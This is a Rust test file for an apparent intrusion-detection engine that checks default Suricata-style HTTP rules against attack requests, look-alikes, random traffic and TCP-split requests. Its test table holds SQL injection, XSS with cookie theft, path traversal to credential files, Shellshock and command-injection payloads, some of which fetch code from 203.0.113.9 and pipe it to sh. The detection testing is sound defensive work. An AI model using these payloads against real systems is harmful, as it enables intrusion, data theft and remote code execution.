//! The default rules on HTTP calls (Suricata's HTTP buffers of reassembled, paired messages):
//! every rule fires on an attack and stays silent on a look-alike, in the URI, URL-encoded and
//! in a form body; ordinary requests fire nothing; sticky buffers and their modifiers follow
//! Suricata's semantics; a request split across TCP segments is caught once reassembled.
use rxray_engine::http::{Call, ConnKey, Message};
use rxray_engine::signatures::{load, CallMatch, SignatureSet, Vars};
use std::collections::{BTreeMap, BTreeSet};
use std::net::IpAddr;

fn conn() -> ConnKey {
    let (c, s): (IpAddr, IpAddr) = ("198.18.0.1".parse().unwrap(), "198.18.0.2".parse().unwrap());
    ConnKey { client: c, client_port: 40000, server: s, server_port: 8080 }
}

/// A call: the request (line, extra header lines, body) and a plain 200 answer.
fn call(line: &str, extra: &str, body: &[u8]) -> Call {
    let cl = if body.is_empty() { String::new() } else { format!("Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n", body.len()) };
    let head = format!("{line}\r\nHost: shop.example:8080\r\nUser-Agent: curl/8.4.0\r\nAccept: */*\r\n{extra}{cl}\r\n");
    let k = conn();
    Call {
        client: k.client,
        conn: k,
        ts_ns: 1,
        request: Message { head: head.into_bytes(), body: body.to_vec(), truncated: false },
        status: 200,
        response: Message { head: b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\n".to_vec(), body: b"ok".to_vec(), truncated: false },
        latency_ns: 0,
    }
}

/// The rules that fire on the call's request (delivered alone, as the tracker does when it is
/// whole) and on the paired call (the response side).
fn fired(s: &mut SignatureSet, c: &Call) -> Vec<u32> {
    let mut v: Vec<CallMatch> = Vec::new();
    let request = Call { status: 0, response: Message::default(), ..c.clone() };
    s.match_call_into(&request, &mut v);
    s.match_call_into(c, &mut v);
    v.into_iter().map(|m| m.m.sid).collect()
}

fn default_set() -> SignatureSet {
    let l = load(include_str!("../../../rules/default.rules"), &Vars::default());
    assert!(l.errors.is_empty(), "{:#?}", l.errors);
    assert!(l.unsupported.is_empty(), "{:#?}", l.unsupported);
    assert_eq!(l.set.http_rules(), l.set.len(), "every default rule inspects HTTP buffers");
    l.set
}

/// (URI attack, the rule on the URI it must fire, a look-alike URI that must fire nothing).
const URI: &[(&str, u32, &str)] = &[
    ("/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users", 9000001, "/search?q=trade+union+selection"),
    ("/items?id=1+union+all+select+1,2,3", 9000001, "/search?q=union+station+timetable"),
    ("/items?id=-1/**/UNION/**/SELECT/**/1", 9000001, "/search?q=union+select"),
    ("/login?user=admin'%20OR%201=1", 9000002, "/q?a=it's+or+never"),
    ("/login?user=x'+or+'a'='a", 9000002, "/q?name=o'reilly+and+sons"),
    ("/p?id=1%20AND%20SLEEP(5)", 9000003, "/docs/sleep-tips?h=8"),
    ("/q?x=1%20and%20benchmark(5000000,md5(1))", 9000004, "/benchmark/results?run=5"),
    ("/q?id=1;WAITFOR%20DELAY%20'0:0:5'", 9000005, "/q?waitfor=delay"),
    ("/q?x=1+union+select+table_name+from+information_schema.tables", 9000006, "/docs/information-schema"),
    ("/login?user=admin'--", 9000007, "/profile/o'brien"),
    ("/login?user=admin%27%20--", 9000008, "/q?name=o%27brien"),
    ("/q?x=1;exec+master..xp_cmdshell+'dir'", 9000009, "/q?x=xp_cmd"),
    ("/q?x=1+union+select+load_file('/etc/hosts')", 9000010, "/q?file=profile.jpg"),
    ("/search?q=<script>alert(1)</script>", 9000020, "/search?q=scripture"),
    ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", 9000021, "/search?q=%3Cb%3Escript"),
    ("/r?url=javascript:alert(1)", 9000022, "/r?url=javascript-tutorial"),
    ("/i?x=<img%20src=x%20onerror=alert(1)>", 9000023, "/i?x=onerror-handling"),
    ("/i?x=<svg%20onload=alert(1)>", 9000024, "/i?x=onload_time"),
    ("/i?x=<img%20src=x%20onerror=fetch('//e/'+document.cookie)>", 9000025, "/docs/document-cookie"),
    ("/../../../../etc/hosts", 9000030, "/files/..config"),
    ("/files/..\\..\\windows\\system32", 9000031, "/a/..b"),
    ("/static/%2e%2e%2f%2e%2e%2fapp.conf", 9000032, "/static/%2e%2efile"),
    ("/static/..%2f..%2fapp.conf", 9000033, "/static/..%20x"),
    ("/static/%252e%252e%252fapp.conf", 9000034, "/static/%252e.x"),
    ("/download?file=/etc/passwd", 9000035, "/docs/etc-passwd"),
    ("/download?file=%2Fetc%2Fshadow", 9000035, "/docs/etc/passwords-guide"),
    ("/download?file=/proc/self/environ", 9000036, "/proc/selfie"),
    ("/download?file=c:\\windows\\win.ini", 9000037, "/files/winner.ini"),
    ("/ping?host=127.0.0.1;cat%20/etc/hosts", 9000040, "/menu?items=tea;coffee"),
    ("/ping?host=127.0.0.1;id", 9000040, "/menu?items=tea;identity"),
    ("/x?cmd=$(id)", 9000041, "/x?price=$(5)"),
    ("/x?cmd=%24%28whoami%29", 9000042, "/x?p=%2428"),
    ("/x?c=1;wget+http://203.0.113.9/x|sh", 9000043, "/x?tags=fish|shells"),
    ("/x?cmd=`id`", 9000044, "/x?q=`quote"),
    ("/x?cmd=%60id%60", 9000045, "/x?q=%60"),
    ("/x?c=;/bin/sh%20-c%20id", 9000046, "/docs/bin/shells"),
    ("/x?c=%2Fbin%2Fbash", 9000047, "/x?p=%2fbin%2fls"),
    ("/ping?host=127.0.0.1%3Bid", 9000049, "/menu?items=tea%3Bcoffee"),
    ("/ping?host=1.1.1.1|whoami", 9000050, "/x?a=b|where"),
    ("/ping?host=1.1.1.1%7Cuname+-a", 9000051, "/x?a=b%7Cwhere"),
    ("/ping?host=1.1.1.1&&wget+http://203.0.113.9/x", 9000052, "/x?a=b&&c=d"),
    ("/ping?host=1.1.1.1%26%26curl%20-s%20203.0.113.9", 9000053, "/x?a=%26%26c"),
    ("/ping?host=1.1.1.1%0Acat%20/etc/hosts", 9000054, "/x?a=%0Ahello"),
];

/// Rules only on the raw URI (no body twin): path traversal.
fn uri_only(sid: u32) -> bool {
    (9000030..=9000034).contains(&sid)
}

#[test]
fn every_default_rule_fires_on_its_attack_and_not_on_its_look_alike() {
    let mut s = default_set();
    let mut attacked: BTreeSet<u32> = BTreeSet::new();
    let mut quiet: BTreeSet<u32> = BTreeSet::new();
    let mut check = |s: &mut SignatureSet, attack: &Call, sid: u32, look: &Call, what: &str| {
        let got = fired(s, attack);
        assert!(got.contains(&sid), "{what}: {:?} should fire {sid}, fired {got:?}", String::from_utf8_lossy(&attack.request.head));
        attacked.insert(sid);
        let got = fired(s, look);
        assert!(got.is_empty(), "{what}: look-alike {:?} {:?} fired {got:?}", String::from_utf8_lossy(&look.request.head), String::from_utf8_lossy(&look.request.body));
        quiet.insert(sid);
    };
    for &(uri, sid, look) in URI {
        check(&mut s, &call(&format!("GET {uri} HTTP/1.1"), "", b""), sid, &call(&format!("GET {look} HTTP/1.1"), "", b""), "URI");
        if uri_only(sid) {
            continue;
        }
        // The same in a form body: the rule's request-body twin (sid + 100).
        let (Some((_, q)), Some((_, lq))) = (uri.split_once('?'), look.split_once('?').or(Some(("", look)))) else { continue };
        check(&mut s, &call("POST /form HTTP/1.1", "", q.as_bytes()), sid + 100, &call("POST /form HTTP/1.1", "", lq.as_bytes()), "body");
    }
    // Shellshock arrives in a header, or a body.
    check(
        &mut s,
        &call("GET /cgi-bin/status HTTP/1.1", "Referer: () { :; }; /bin/bash -c 'id'\r\n", b""),
        9000048,
        &call("GET /cgi-bin/status HTTP/1.1", "X-Data: f() x {\r\n", b""),
        "header",
    );
    check(&mut s, &call("POST /cgi-bin/x HTTP/1.1", "", b"x=() { :; }; echo"), 9000148, &call("POST /cgi-bin/x HTTP/1.1", "", b"x=f() x {"), "body");
    // A JSON body with an injected value.
    let json = br#"{"user":"admin' OR 1=1","pass":"x"}"#;
    assert!(fired(&mut s, &call("POST /api/login HTTP/1.1", "", json)).contains(&9000102));
    // Every default rule has an attack that fires it and a look-alike that does not.
    let all: BTreeSet<u32> = s.rules().iter().map(|r| r.sid).collect();
    assert_eq!(all.difference(&attacked).collect::<Vec<_>>(), Vec::<&u32>::new(), "rules with no attack");
    assert_eq!(all.difference(&quiet).collect::<Vec<_>>(), Vec::<&u32>::new(), "rules with no look-alike");
}

#[test]
fn ordinary_requests_fire_nothing() {
    let json = r#"{"item":"cat food","qty":2,"note":"leave it at the door, or ring; see you","select":true,"tags":["a","b"],"path":"docs/guide"}"#;
    let calls = [
        call("GET / HTTP/1.1", "Cookie: session=abc123; id=42; theme=dark; sh=1\r\nAccept-Language: en-US,en;q=0.5\r\n", b""),
        call("GET /api/v1/users?id=42&sort=name&order=asc&select=email HTTP/1.1", "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.e30.abc\r\n", b""),
        call("POST /api/orders HTTP/1.1", "", json.as_bytes()),
        call("GET /index.html HTTP/1.1", "", b""),
        call("GET /search?q=union+station+timetable&lang=en HTTP/1.1", "", b""),
        call("GET /static/js/app.min.js?v=1.2.3 HTTP/1.1", "Referer: https://x/docs/sleep-tips\r\n", b""),
        call("POST /login HTTP/1.1", "", b"username=o%27brien&password=s3cr%21"),
        call("GET /wiki/Unix_shell?action=history&limit=50 HTTP/1.1", "Cookie: lang=en; sh=1; cat=shoes; curl=no\r\n", b""),
        call("PUT /api/files/report.ini HTTP/1.1", "", b""),
    ];
    let mut s = default_set();
    for c in &calls {
        assert!(fired(&mut s, c).is_empty(), "{:?} fired {:?}", String::from_utf8_lossy(&c.request.head), fired(&mut s, c));
    }
}

#[test]
fn default_rules_stay_silent_on_random_uris_and_bodies() {
    let mut s = default_set();
    let mut x = 0x2545F4914F6CDD1Du64;
    let mut next = || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    let mut hits = Vec::new();
    for _ in 0..5_000 {
        let body: Vec<u8> = (0..256).map(|_| next() as u8).collect();
        // URIs from the characters URIs are made of; bodies of any bytes (uploads, compressed data).
        const URL: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-._~/?=&%+";
        let uri: String = (0..40).map(|_| URL[(next() % URL.len() as u64) as usize] as char).collect();
        let c = call(&format!("POST /{uri} HTTP/1.1"), "", &body);
        hits.extend(fired(&mut s, &c));
    }
    let by: BTreeMap<u32, usize> = hits.iter().fold(BTreeMap::new(), |mut m, s| {
        *m.entry(*s).or_default() += 1;
        m
    });
    assert!(hits.is_empty(), "default rules fired on random calls: {by:?}");
}

fn one(rules: &str) -> SignatureSet {
    let l = load(rules, &Vars::default());
    assert!(l.errors.is_empty() && l.unsupported.is_empty(), "{:?} {:?}", l.errors, l.unsupported);
    l.set
}

#[test]
fn buffers_hold_what_suricata_puts_in_them() {
    let c = call("GET /a/../b%20c?x=%27y HTTP/1.1", "Cookie: s=1\r\nX-Long:   padded  \r\n", b"");
    let cases: &[(&str, bool)] = &[
        (r#"http.method; content:"GET"; startswith; endswith;"#, true),
        (r#"http.uri; content:"/b c?x='y"; startswith; endswith;"#, true),
        (r#"http.uri.raw; content:"/a/../b%20c?x=%27y"; startswith; endswith;"#, true),
        (r#"http.uri; content:"%20";"#, false),
        (r#"http.host; content:"shop.example"; startswith; endswith;"#, true),
        (r#"http.host.raw; content:"shop.example:8080"; startswith; endswith;"#, true),
        (r#"http.user_agent; content:"curl/8.4.0"; startswith; endswith;"#, true),
        (r#"http.cookie; content:"s=1"; startswith; endswith;"#, true),
        (r#"http.header; content:"X-Long: padded|0d 0a|";"#, true),
        (r#"http.header; content:"Cookie: s=1|0d 0a|";"#, true),
        (r#"http.header_names; content:"|0d 0a|Host|0d 0a|User-Agent|0d 0a|";"#, true),
        (r#"http.header_names; content:"|0d 0a 0d 0a|"; endswith;"#, true),
        (r#"http.stat_code; content:"200"; startswith; endswith;"#, true),
        (r#"http.response_body; content:"ok";"#, true),
        (r#"file.data; content:"ok"; flow:to_client;"#, true),
        // Modifiers per buffer: depth counts from the buffer's start, relative from its own previous match.
        (r#"http.uri; content:"/b"; depth:2; content:"x="; distance:0; within:6;"#, true),
        (r#"http.uri; content:"x"; depth:2;"#, false),
        (r#"http.method; content:"get"; nocase; http.uri; content:"/b"; startswith;"#, true),
        (r#"http.method; content:"GET"; http.uri; content:"x"; distance:0; within:1;"#, false),
        // Legacy modifiers and pcre buffer flags.
        (r#"content:"/b c"; http_uri;"#, true),
        (r#"pcre:"/^\/b c\?x='y$/U";"#, true),
        (r#"pcre:"/%27y$/I";"#, true),
        (r#"flow:established,to_server; http.uri; content:"b c";"#, true),
        (r#"flow:to_client; http.stat_code; content:"404";"#, false),
    ];
    for (opts, want) in cases {
        let mut s = one(&format!("alert http any any -> any any ({opts} sid:1;)"));
        assert_eq!(!fired(&mut s, &c).is_empty(), *want, "{opts}");
    }
}

#[test]
fn a_request_split_across_segments_is_caught_once_reassembled() {
    use rxray_engine::detect::{DetectConfig, Detectors};
    use rxray_engine::http::{Direction as Dir, HttpConfig, TcpSegment};
    use rxray_engine::inspect::Inspector;
    use rxray_engine::inspect_http::HttpInspector;
    let l = load(include_str!("../../../rules/default.rules"), &Vars::default());
    let mut insp = Inspector::new(Detectors::new(DetectConfig::default(), &[]).unwrap(), Some(l.set))
        .with_http(HttpInspector::new(HttpConfig::default(), &[8080], None));
    let k = conn();
    let req = b"GET /login?user=admin%27%20OR%201%3D1 HTTP/1.1\r\nHost: x\r\n\r\n";
    let resp = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n";
    // The quote in one segment, the tautology in the next: no single segment holds the attack.
    let cut = 26;
    let (cs, ss) = (100u32, 900u32);
    let mut out = Vec::new();
    let segs: [(Dir, u32, u32, u8, &[u8]); 5] = [
        (Dir::ToServer, cs, 0, 0x02, b""),
        (Dir::ToClient, ss, cs + 1, 0x12, b""),
        (Dir::ToServer, cs + 1, ss + 1, 0x18, &req[..cut]),
        (Dir::ToServer, cs + 1 + cut as u32, ss + 1, 0x18, &req[cut..]),
        (Dir::ToClient, ss + 1, cs + 1 + req.len() as u32, 0x18, resp),
    ];
    for (n, (dir, seq, ack, flags, data)) in segs.into_iter().enumerate() {
        let (src, sport, dst, dport) = if dir == Dir::ToServer { (k.client, 40000, k.server, 8080) } else { (k.server, 8080, k.client, 40000) };
        insp.on_segment(&TcpSegment { ts_ns: 1 + n as u64, src, sport, dst, dport, dir, seq, ack, flags, payload: data, wire_len: data.len() as u32 }, &mut out);
    }
    let sids: Vec<u32> = out.iter().map(|a| a.sig.sid).collect();
    assert_eq!(sids, [9000002], "{out:?}");
    assert_eq!(out[0].evidence["matches"][0]["buffer"], "http.uri");
}
